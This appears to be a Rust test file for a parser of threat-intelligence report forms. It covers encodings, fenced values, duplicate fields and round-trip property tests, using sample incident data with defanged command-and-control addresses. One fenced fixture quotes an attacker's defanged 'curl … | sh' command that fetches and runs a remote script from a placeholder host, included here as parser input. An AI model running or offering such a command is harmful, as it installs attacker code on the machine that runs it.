//! The intelligence TXT form: the emitter's exact layout, one example in the encodings
//! analysts' editors write, hand-written variants (English labels, ASCII colons, fences),
//! what cannot be read (notation warnings at their lines, unknown labels, duplicates), and
//! property tests (generated records come back; no input panics and what was read is
//! written back).

use proptest::prelude::*;
use tocsin_domain::intel::notation::WarningKind;
use tocsin_domain::intel::{IntelField, IntelInput, IntelRecord, ScanInfo};
use tocsin_formats::intel_form::{self, ParseOutcome, Problem, ProblemKind};

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/data/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn s(v: &str) -> String {
    v.to_owned()
}

/// What a record's free texts 19, 22 and 23 read as: entries as text, and warnings.
fn readings(r: &IntelRecord) -> (Vec<String>, Vec<String>, Vec<ScanInfo>) {
    let show = |v: Vec<String>| v;
    (
        show(r.victims().entries.iter().map(|e| e.to_string()).collect()),
        show(
            r.connections()
                .entries
                .iter()
                .map(|c| c.to_string())
                .collect(),
        ),
        r.scans().entries,
    )
}

/// Two inputs that make the same record, the free texts 19, 22 and 23 compared by what
/// they read as (a hand-written form writes them its own way).
fn assert_same_reading(name: &str, a: &IntelInput, b: &IntelInput) {
    let (ra, rb) = (
        a.validate().expect("a is valid"),
        b.validate().expect("b is valid"),
    );
    assert_eq!(readings(&ra), readings(&rb), "{name}");
    let strip = |mut r: IntelRecord| {
        r.victim_ip = None;
        r.malicious_connections = None;
        r.scan_info = None;
        r
    };
    assert_eq!(strip(ra), strip(rb), "{name}");
}

/// The record of intel-example.txt.
fn example() -> IntelInput {
    IntelInput {
        category: s("INT"),
        subject: s("某金融機構對外網站遭植入網頁後門"),
        source: s("TWCERT/CC"),
        published_at: s("2026-03-02T14:30:00+08:00"),
        tlp: s("amber"),
        dispatch_id: s("TWCERT-INT-2026-0042"),
        event_subject: s("網站伺服器遭入侵並植入網頁後門及挖礦程式"),
        event_discovered_at: s("2026-02-27T09:15:00+08:00"),
        event_sent_at: s("2026-02-27T11:00:00+08:00"),
        event_resolved_at: s("2026-03-01T18:00:00+08:00"),
        content: s(
            "本中心接獲通報，某金融機構對外網站遭攻擊者利用檔案上傳漏洞植入網頁後門。\n\
             攻擊者透過後門下載挖礦程式，並與下列中繼站連線：\n\
             \n    \
             hxxp://198.51.100[.]7:8080/gate.php\n    \
             update-check.example[.]net\n\
             \n\
             注意：中繼站於 2026-02-28 起改用 443 埠。\n\
             請各單位檢視防火牆及網頁伺服器紀錄。",
        ),
        intel_type: s("入侵攻擊"),
        publisher: s("台灣電腦網路危機處理暨協調中心"),
        contact: s("電話：02-2345-6789\n電子郵件：soc@example.org.tw"),
        impact_level: s("3"),
        recommendation: s("1. 更新網站上傳元件至最新版本。\n\
             2. 移除網站目錄中不明的 .jsp 檔案。\n\
             3. 封鎖下列惡意連線資訊中的位址。"),
        references: s("https://example.org/advisory/2026-0042"),
        attachments: s("webshell-sample.zip（解壓縮密碼 infected）"),
        victim_ip: s("203.0.113.5，443，TCP\n203.0.113.6（Web 伺服器）"),
        affected_platforms: s("Windows Server 2019\nApache Tomcat 9.0"),
        technique: s("利用檔案上傳漏洞植入網頁後門，再下載挖礦程式。"),
        malicious_connections: s(
            "目的IP：198.51.100.7 目的埠：8080 協定：TCP\n來源 [2001:db8::66]",
        ),
        scan_info: s("ClamAV, antivirus, 1.0.5, Win.Trojan.Agent-1234 \"webshell\" (2 files)"),
        source_id: String::new(),
        source_time: String::new(),
    }
}

fn assert_clean(name: &str, outcome: &ParseOutcome) {
    assert_eq!(outcome.problems, vec![], "{name}");
    assert_eq!(outcome.unknown_lines, vec![], "{name}");
    assert!(!outcome.lossy, "{name}");
}

#[test]
fn the_example_is_exactly_what_emit_writes() {
    let text = String::from_utf8(fixture("intel-example.txt")).expect("utf-8");
    assert_eq!(intel_form::emit(&example()), text);
    let record = example().validate().expect("the example is valid");
    assert_eq!(intel_form::emit_record(&record), text);
}

#[test]
fn the_examples_free_texts_read_as_entries() {
    let record = example().validate().expect("valid");
    let (victims, connections, scans) = readings(&record);
    assert_eq!(victims, ["203.0.113.5:443/tcp", "203.0.113.6"]);
    assert_eq!(
        connections,
        ["destination 198.51.100.7:8080/tcp", "source 2001:db8::66"]
    );
    assert_eq!(
        scans,
        [ScanInfo {
            engine: s("ClamAV"),
            engine_type: s("antivirus"),
            version: s("1.0.5"),
            result: s("Win.Trojan.Agent-1234 \"webshell\" (2 files)"),
        }]
    );
    assert_eq!(record.notation_warnings(), vec![]);
}

#[test]
fn the_example_in_every_encoding_parses_to_one_record() {
    for (name, encoding) in [
        ("intel-example.txt", "UTF-8"),
        ("intel-example-big5-crlf.txt", "Big5"),
        ("intel-example-utf16le-bom-crlf.txt", "UTF-16LE"),
    ] {
        let outcome = intel_form::parse_bytes(&fixture(name));
        assert_eq!(outcome.encoding, Some(encoding), "{name}");
        assert_clean(name, &outcome);
        assert_eq!(outcome.input, example(), "{name}");
    }
}

#[test]
fn hand_written_variants_read_the_same_record() {
    for name in ["intel-english.txt", "intel-ascii-colons.txt"] {
        let outcome = intel_form::parse_bytes(&fixture(name));
        assert_clean(name, &outcome);
        assert_eq!(outcome.encoding, Some("UTF-8"), "{name}");
        // Written in tocsin's own `key=value` notation: the same entries.
        assert_same_reading(name, &outcome.input, &example());
    }
}

#[test]
fn fenced_values_are_kept_verbatim() {
    let outcome = intel_form::parse_bytes(&fixture("intel-fenced.txt"));
    assert_clean("fenced", &outcome);
    assert_eq!(
        outcome.input.content,
        "下列為攻擊者植入的程式碼片段，請勿執行：\n\
         \n    \
         curl -s hxxp://198.51.100[.]9/x.sh | sh\n\
         情資主旨：這一行在圍欄內，是內容而非欄位"
    );
    assert_eq!(outcome.input.subject, "某開源套件遭植入後門");
    // A longer fence holds lines of three backticks.
    assert_eq!(
        outcome.input.recommendation,
        "以 ``` 標示的段落請照原樣保留：\n```\nnpm uninstall evil-pkg\n```"
    );
    assert_eq!(outcome.input.victim_ip, "");
    let record = outcome.input.validate().expect("valid");
    // The emitter indents instead; the value comes back the same.
    let again = intel_form::parse(&intel_form::emit_record(&record));
    assert_eq!(again.input.validate(), Ok(record));
}

#[test]
fn an_unclosed_fence_runs_to_the_end_and_is_named() {
    let outcome = intel_form::parse("情資主旨：x\n情資內容：```\n第一行\n分享等級：RED\n");
    assert_eq!(
        outcome.problems,
        vec![Problem {
            field: IntelField::Content,
            line: 2,
            kind: ProblemKind::UnclosedFence,
            text: String::new(),
        }]
    );
    assert_eq!(outcome.input.content, "第一行\n分享等級：RED\n");
    assert_eq!(outcome.input.tlp, "");
}

#[test]
fn what_cannot_be_read_is_kept_and_warned_at_its_line() {
    let bytes = fixture("intel-bad-connection.txt");
    let outcome = intel_form::parse_bytes(&bytes);
    // Nothing refused: no problem, the text kept exactly as written.
    assert_eq!(outcome.problems, vec![]);
    assert_eq!(outcome.unknown_lines, vec![]);
    let text = String::from_utf8(bytes).expect("utf-8");
    let written: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.starts_with("惡意IP連線資訊"))
        .skip(1)
        .map(|l| l.strip_prefix("  ").unwrap_or(l))
        .collect();
    assert_eq!(outcome.input.malicious_connections, written.join("\n"));
    let record = outcome
        .input
        .validate()
        .expect("a free text is never refused");
    let (_, connections, _) = readings(&record);
    assert_eq!(
        connections,
        [
            "destination 198.51.100.7:8080/tcp",
            "destination 198.51.100.8:443",
            "source 203.0.113.9",
            "source 198.51.100.10",
            "source 198.51.100.11",
            "198.51.100.12",
            "source 2001:db8::66",
            "source 192.0.2.1",
            "198.51.100.21:53/udp",
        ]
    );
    // Each warning at the form's line, not the value's.
    let warnings: Vec<(usize, WarningKind)> = outcome
        .notation_warnings()
        .into_iter()
        .map(|(f, w)| {
            assert_eq!(f, IntelField::MaliciousConnections);
            (w.line, w.kind)
        })
        .collect();
    assert_eq!(
        warnings,
        vec![
            (
                14,
                WarningKind::BadAddress {
                    token: s("999.1.1.1:80")
                }
            ),
            (
                15,
                WarningKind::BadAddress {
                    token: s("198.51.100.20:70000")
                }
            ),
            (16, WarningKind::Unreadable),
            (17, WarningKind::BadPort { token: s("80x") }),
        ]
    );
}

#[test]
fn unknown_labels_and_stray_lines_are_kept_apart() {
    let outcome = intel_form::parse_bytes(&fixture("intel-unknown-label.txt"));
    assert_eq!(
        outcome.unknown_lines,
        vec![
            (4, s("影響範圍：全台分行")),
            (5, s("  十二個網站")),
            (10, s("順頌時祺")),
        ]
    );
    assert_eq!(outcome.problems, vec![]);
    // The greeting before the first field is ignored; the fields around are read.
    let i = &outcome.input;
    assert_eq!(i.subject, "網頁置換攻擊");
    assert_eq!(i.source, "TWCERT/CC");
    assert_eq!(i.tlp, "WHITE");
    assert_eq!(i.content, "某網站遭置換。");
    assert!(i.validate().is_ok());
}

#[test]
fn a_field_given_twice_differently_is_a_problem() {
    let outcome = intel_form::parse_bytes(&fixture("intel-duplicate.txt"));
    assert_eq!(
        outcome.problems,
        vec![Problem {
            field: IntelField::Subject,
            line: 9,
            kind: ProblemKind::Duplicate,
            text: s("另一個主旨"),
        }]
    );
    // The first value is used; an empty label (the template's) or the same value again is
    // no duplicate.
    assert_eq!(outcome.input.subject, "網頁置換攻擊");
    assert_eq!(outcome.input.tlp, "AMBER");
    assert_eq!(outcome.unknown_lines, vec![]);
}

#[test]
fn duplicate_free_texts_and_repeated_scan_parts() {
    let outcome = intel_form::parse(
        "受害IP：192.0.2.1\n受害IP：192.0.2.2\n掃描資訊：engine=A\n  engine=B version=2\n  version=3\n",
    );
    assert_eq!(
        outcome.problems,
        vec![Problem {
            field: IntelField::VictimIp,
            line: 2,
            kind: ProblemKind::Duplicate,
            text: s("192.0.2.2"),
        },]
    );
    assert_eq!(outcome.input.victim_ip, "192.0.2.1");
    assert_eq!(
        outcome.input.scan_info,
        "engine=A\nengine=B version=2\nversion=3"
    );
    // A part given again starts the next scan.
    let scans = tocsin_domain::intel::notation::scans(&outcome.input.scan_info).entries;
    let short = |e: &str, v: &str| ScanInfo {
        engine: s(e),
        version: s(v),
        ..ScanInfo::default()
    };
    assert_eq!(scans, vec![short("A", ""), short("B", "2"), short("", "3")]);
}

#[test]
fn emit_layout() {
    let template = intel_form::template();
    let labels: Vec<String> = IntelField::ALL
        .iter()
        .map(|f| format!("{}：", f.zh()))
        .collect();
    assert_eq!(template.lines().collect::<Vec<_>>(), labels);

    let input = IntelInput {
        content: s("first\n\n  indented\nlast"),
        subject: s(" leading space"),
        contact: s("```"),
        victim_ip: s(" 203.0.113.5\n203.0.113.6"),
        scan_info: s("two\nlines \\ \"q\""),
        ..IntelInput::default()
    };
    let text = intel_form::emit(&input);
    for expected in [
        "情資內容：first\n  \n    indented\n  last\n",
        "情資主旨：\n   leading space\n",
        "聯絡資訊：\n  ```\n",
        "受害IP：\n   203.0.113.5\n  203.0.113.6\n",
        "掃描資訊：two\n  lines \\ \"q\"\n",
    ] {
        assert!(text.contains(expected), "{expected:?} in\n{text}");
    }
    let back = intel_form::parse(&text);
    assert_eq!(back.input, input);
    assert_eq!(back.problems, vec![]);
    assert_eq!(back.unknown_lines, vec![]);
}

#[test]
fn label_forms() {
    for line in [
        "事件主旨：x",
        "事件主旨:x",
        "  事件主旨 ： x",
        "event_subject: x",
        "EVENT_SUBJECT：x",
        "事件主旨 (event_subject)：x",
        "event_subject（事件主旨）: x",
        "事件主旨 (選填): x",
    ] {
        let outcome = intel_form::parse(line);
        assert_eq!(outcome.input.event_subject, "x", "{line}");
        assert_eq!(outcome.unknown_lines, vec![], "{line}");
    }
    // `source_id` is not `source` followed by text.
    let outcome = intel_form::parse("source_id: A-1\nsource: B");
    assert_eq!(outcome.input.source_id, "A-1");
    assert_eq!(outcome.input.source, "B");
    // Not labels: no colon, another word, a URL's colon.
    let outcome = intel_form::parse("情資主旨：s\n事件主旨 x\nevent_subjects: y\n");
    assert_eq!(outcome.input.subject, "s\n事件主旨 x");
    assert_eq!(outcome.unknown_lines, vec![(3, s("event_subjects: y"))]);
    let outcome = intel_form::parse("情資主旨：s\nhttps://example.org/x\n");
    assert_eq!(outcome.input.subject, "s\nhttps://example.org/x");
}

#[test]
fn continuation_rules() {
    // Unindented lines continue a value directly; after a blank line only indented ones.
    let outcome = intel_form::parse(
        "情資內容：a\nb\n電話：1\n\n  c\n\nd\n情資主旨：s\n\n\n分享等級：\nRED\n",
    );
    assert_eq!(outcome.input.content, "a\nb\n電話：1\n\nc");
    assert_eq!(outcome.unknown_lines, vec![(7, s("d"))]);
    assert_eq!(outcome.input.subject, "s");
    assert_eq!(outcome.input.tlp, "RED");
    // Outside the free texts a label-shaped line is no value.
    let outcome = intel_form::parse("情資主旨：s\n電話：1\n");
    assert_eq!(outcome.input.subject, "s");
    assert_eq!(outcome.unknown_lines, vec![(2, s("電話：1"))]);
}

#[test]
fn tocsins_quoted_notation_is_still_read() {
    let outcome = intel_form::parse(
        "掃描資訊：engine=\"Microsoft Defender\" version=1.1=beta result=\"C:\\Temp\\x.exe \\\"quoted\\\"\\nsecond\"\n\
         受害IP：\"192.0.2.9\" port=\"\" protocol=udp\n",
    );
    assert_eq!(outcome.problems, vec![]);
    let mut input = example();
    input.scan_info = outcome.input.scan_info;
    input.victim_ip = outcome.input.victim_ip;
    let (victims, _, scans) = readings(&input.validate().expect("valid"));
    assert_eq!(
        scans,
        [ScanInfo {
            engine: s("Microsoft Defender"),
            engine_type: String::new(),
            version: s("1.1=beta"),
            result: s("C:\\Temp\\x.exe \"quoted\"\nsecond"),
        }]
    );
    assert_eq!(victims, ["192.0.2.9/udp"]);
}

#[test]
fn tlp_is_written_as_the_seed_writes_it_and_read_in_any_case() {
    use tocsin_domain::Tlp;
    for (tlp, written) in [
        (Tlp::Clear, "white"),
        (Tlp::Green, "green"),
        (Tlp::Amber, "amber"),
        (Tlp::AmberStrict, "amber+strict"),
        (Tlp::Red, "red"),
    ] {
        let mut record = example().validate().expect("valid");
        record.tlp = tlp;
        let text = intel_form::emit_record(&record);
        assert!(
            text.contains(&format!("\n分享等級：{written}\n")),
            "{tlp:?}"
        );
        for shown in [
            written.to_uppercase(),
            written.to_string(),
            format!("TLP:{}", written.to_uppercase()),
        ] {
            let again = text.replace(
                &format!("分享等級：{written}"),
                &format!("分享等級：{shown}"),
            );
            let read = intel_form::parse(&again).input.validate().expect("valid");
            assert_eq!(read.tlp, tlp, "{shown}");
        }
    }
}

// ---------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------

use crate::intel_strategies::*;

/// Text made of the syntax's pieces, to reach the parser's corners.
fn noisy_form() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(IntelField::ALL.to_vec()).prop_map(|f| format!("{}：", f.zh())),
        prop::sample::select(IntelField::ALL.to_vec()).prop_map(|f| format!("{}: ", f.key())),
        Just(s("  ")),
        Just(s("\t")),
        Just(s("\n")),
        Just(s("\r\n")),
        Just(s("```")),
        Just(s("````\n")),
        Just(s("\"")),
        Just(s("\\")),
        Just(s("=")),
        Just(s(" ip=")),
        Just(s("direction=source ")),
        Just(s("engine=")),
        Just(s("電話：")),
        Just(s("(hint)")),
        Just(s("\u{feff}")),
        "[a-z0-9 .:資安]{0,8}",
    ];
    prop::collection::vec(piece, 0..40).prop_map(|p| p.concat())
}

/// What was read is written back and read again unchanged, and validates alike.
fn assert_round_trip(outcome: &ParseOutcome) -> Result<(), TestCaseError> {
    let again = intel_form::parse(&intel_form::emit(&outcome.input));
    prop_assert_eq!(&again.input, &outcome.input);
    prop_assert_eq!(&again.problems, &vec![]);
    prop_assert_eq!(&again.unknown_lines, &vec![]);
    prop_assert_eq!(again.input.validate(), outcome.input.validate());
    Ok(())
}

proptest! {
    #[test]
    fn generated_records_come_back(input in intel_input()) {
        let record = input
            .validate()
            .map_err(|e| TestCaseError::fail(format!("generated input invalid: {e:?}")))?;
        let text = intel_form::emit_record(&record);
        let outcome = intel_form::parse(&text);
        prop_assert_eq!(&outcome.problems, &vec![]);
        prop_assert_eq!(&outcome.unknown_lines, &vec![]);
        prop_assert_eq!(&outcome.input, &record.to_input());
        prop_assert_eq!(outcome.input.validate(), Ok(record.clone()));
        // The raw input too, and with Windows line ends.
        let raw = intel_form::parse(&intel_form::emit(&input).replace('\n', "\r\n"));
        prop_assert_eq!(&raw.input, &input);
        prop_assert_eq!(raw.input.validate(), Ok(record));
    }

    #[test]
    fn any_text_parses_and_comes_back(text in noisy_form()) {
        assert_round_trip(&intel_form::parse(&text))?;
    }

    #[test]
    fn any_bytes_parse_and_come_back(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        assert_round_trip(&intel_form::parse_bytes(&bytes))?;
    }
}
